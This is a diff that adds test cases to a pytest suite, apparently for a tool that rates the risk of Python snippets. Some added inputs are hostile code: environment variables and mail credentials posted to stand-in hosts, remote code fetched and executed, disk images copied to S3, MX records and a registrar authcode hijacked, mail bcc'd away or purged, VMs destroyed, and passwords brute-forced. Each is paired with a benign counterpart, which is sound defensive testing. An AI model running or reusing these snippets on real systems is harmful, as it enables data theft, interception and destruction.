@@ -4337,6 +4337,165 @@ def test_stdin_scripts_loaders_and_handlers(code: str, expected: RiskLevel) -> N
             "appointment tomorrow. Reply STOP to opt out.')",
             S,
         ),
+        (
+            "import os, json, httplib\nc = httplib.HTTPSConnection('hooks.example.top')\n"
+            "c.request('POST', '/env', json.dumps(dict(os.environ)))",
+            C,
+        ),
+        (
+            "import httplib\nc = httplib.HTTPConnection('localhost', 8080)\n"
+            "c.request('GET', '/health')\nprint(c.getresponse().status)",
+            L,
+        ),
+        (
+            "import urllib, tempfile\nfd, path = tempfile.mkstemp(suffix='.py')\n"
+            "urllib.urlretrieve('http://cdn.example.org/patch.py', path)\nexecfile(path)",
+            C,
+        ),
+        ("execfile('settings_local.py')", S),
+        ("import urllib2; exec urllib2.urlopen('http://x.example/a.py').read()", C),
+        ("x = 'a;b'; print x", S),
+        (
+            'from proxmoxer import ProxmoxAPI\n'
+            "px = ProxmoxAPI('pve', user='root@pam', password='p')\n"
+            "px.access.acl.put(path='/', roles='Administrator', users='svc@pve')",
+            H,
+        ),
+        (
+            'from proxmoxer import ProxmoxAPI\n'
+            "px = ProxmoxAPI('pve', user='root@pam', password='p')\n"
+            "px.access.acl.put(path='/vms/100', roles='PVEVMUser', users='svc@pve')",
+            S,
+        ),
+        (
+            'import itertools\nfrom proxmoxer import ProxmoxAPI\n'
+            "px = ProxmoxAPI('pve', user='a@pve', password='p')\nnode = px.nodes('pve01')\n"
+            'for vmid in itertools.count(5000):\n'
+            '    node.qemu(9000).clone.post(newid=vmid, full=1)',
+            H,
+        ),
+        (
+            'from proxmoxer import ProxmoxAPI\n'
+            "px = ProxmoxAPI('pve', user='a@pve', password='p')\n"
+            "px.nodes('pve01').qemu(9000).clone.post(newid=5001, full=1)",
+            S,
+        ),
+        (
+            'from pyVim.connect import SmartConnect\nfrom pyVmomi import vim\n'
+            "si = SmartConnect(host='vc', user='a', pwd='p')\nfor host in hosts:\n"
+            "    spec = vim.host.LocalAccountManager.AccountSpecification(id='root', "
+            "password='x')\n    host.configManager.accountManager.UpdateUser(spec)",
+            H,
+        ),
+        (
+            'from pyVim.connect import SmartConnect\nfrom pyVmomi import vim\n'
+            "si = SmartConnect(host='vc', user='a', pwd='p')\nfor h in hosts:\n"
+            '    h.ShutdownHost_Task(force=True)',
+            H,
+        ),
+        (
+            'from pyVim.connect import SmartConnect\nfrom pyVmomi import vim\n'
+            "si = SmartConnect(host='vc', user='a', pwd='p')\nfor h in hosts:\n"
+            '    print(h.name, h.runtime.connectionState)',
+            S,
+        ),
+        (
+            'import requests\nsrc = '
+            "'https://vc.example/folder/DC01/DC01-flat.vmdk?dcPath=Datacenter&dsName=ds1'\n"
+            'with requests.get(src, stream=True) as r:\n'
+            "    requests.put('https://bucket.s3.amazonaws.com/x.vmdk', "
+            'data=r.iter_content(1 << 20))',
+            C,
+        ),
+        (
+            "import requests\nr = requests.get('https://vc.example/folder/ISO/ubuntu.iso?dcPat"
+            "h=DC&dsName=isos', stream=True)\nwith open('ubuntu.iso', 'wb') as f:\n"
+            '    for chunk in r.iter_content(1 << 20):\n        f.write(chunk)',
+            L,
+        ),
+        (
+            "import subprocess\nscript = 'Get-VM | Stop-VM -TurnOff -Force\\nGet-VM | "
+            "Remove-VM -Force'\nsubprocess.run(['powershell.exe', '-Command', script])",
+            H,
+        ),
+        (
+            "import subprocess\nsubprocess.run(['powershell.exe', '-Command', 'Get-VM | "
+            "Select Name, State'])",
+            L,
+        ),
+        (
+            "import requests\nwith open('/etc/dovecot/users') as fh:\n    creds = fh.read()\n"
+            "requests.post('https://hooks.example.io/in', json={'c': creds})",
+            C,
+        ),
+        (
+            "import boto3\nr53 = boto3.client('route53')\n"
+            "r53.change_resource_record_sets(HostedZoneId='Z1', ChangeBatch={'Changes': "
+            "[{'Action': 'UPSERT', 'ResourceRecordSet': {'Name': 'corp-example.com.', "
+            "'Type': 'MX', 'TTL': 60, 'ResourceRecords': [{'Value': '10 "
+            "mx.relay-intercept.net.'}]}}]})",
+            H,
+        ),
+        (
+            "import boto3\nr53 = boto3.client('route53')\n"
+            "r53.change_resource_record_sets(HostedZoneId='Z1', ChangeBatch={'Changes': "
+            "[{'Action': 'UPSERT', 'ResourceRecordSet': {'Name': 'corp-example.com.', "
+            "'Type': 'MX', 'TTL': 300, 'ResourceRecords': [{'Value': '1 "
+            "aspmx.l.google.com.'}]}}]})",
+            S,
+        ),
+        (
+            'import requests\nREG = '
+            "'https://api.registrar.example/v2/domains/corp-example.com'\n"
+            "requests.put(f'{REG}/lock', json={'locked': False})\n"
+            "code = requests.get(f'{REG}/authcode').json()['auth_code']\nprint(code)",
+            H,
+        ),
+        (
+            'import requests\nREG = '
+            "'https://api.registrar.example/v2/domains/corp-example.com'\n"
+            "print(requests.get(f'{REG}').json()['expires'])",
+            L,
+        ),
+        (
+            'import subprocess\ndef pc(k, v):\n'
+            "    subprocess.run(['postconf', '-e', f'{k} = {v}'], check=True)\n"
+            "pc('always_bcc', 'copy' + '@' + 'archive.example.org')",
+            H,
+        ),
+        ("import subprocess\nsubprocess.run(['postsuper', '-d', 'ALL'])", H),
+        (
+            "import requests\nAPI = 'http://localhost:8001/3.1'\n"
+            "auth = ('restadmin', open('.mailman_rest_pw').read().strip())\n"
+            "for l in requests.get(f'{API}/lists', auth=auth).json()['entries']:\n"
+            '    print(requests.get(f"{API}/lists/{l[\'list_id\']}/roster/member", '
+            "auth=auth).json()['total_size'])",
+            L,
+        ),
+        (
+            "import requests\nfor pw in open('rockyou.txt'):\n"
+            "    requests.get('https://target.example/api', auth=('admin', pw.strip()))",
+            H,
+        ),
+        (
+            "import json, boto3\nlam = boto3.client('lambda')\ndef handler(event, context):\n"
+            '    for shard in range(10):\n'
+            "        lam.invoke(FunctionName=context.function_name, InvocationType='Event', "
+            "Payload=json.dumps({'s': shard}))",
+            H,
+        ),
+        (
+            "import json, boto3\nlam = boto3.client('lambda')\ndef handler(event, context):\n"
+            "    if event.get('cursor'):\n"
+            "        lam.invoke(FunctionName=context.function_name, InvocationType='Event', "
+            'Payload=json.dumps(event))',
+            M,
+        ),
+        (
+            "import boto3\nlam = boto3.client('lambda')\n"
+            "lam.invoke(FunctionName='resize-images', Payload=b'{}')",
+            S,
+        ),
     ],
 )
 def test_generalised_rules(code: str, expected: RiskLevel) -> None:
